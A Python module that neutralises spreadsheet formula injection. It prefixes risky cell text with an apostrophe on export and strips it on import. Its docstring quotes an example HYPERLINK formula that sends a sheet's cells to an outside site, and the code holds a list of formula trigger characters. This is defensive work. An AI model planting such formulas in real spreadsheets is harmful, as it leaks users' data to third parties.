"""Cells that a spreadsheet program would run as a formula, made inert, and the text restored on import.

A cell whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (OWASP's "CSV injection"): a participant named
`=HYPERLINK("http://…"&A1, "click")` would send the sheet's cells to another site. Exports put an
apostrophe before such text (the spreadsheet then shows it as text); imports take it off again.
Plain numbers ("-3.5") are left as they are: they cannot be formulas."""

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _dangerous(text: str) -> bool:
    bare = text.lstrip("'")  # text already starting with quotes gets one more, so import restores it
    return bare.startswith(TRIGGERS) and not NUMBER.fullmatch(text)


def neutralise(value: object) -> object:
    """The value to write in a cell: text that would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value and _dangerous(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The text a cell held before `neutralise` (for imports)."""
    if text.startswith("'") and _dangerous(text[1:]):
        return text[1:]
    return text
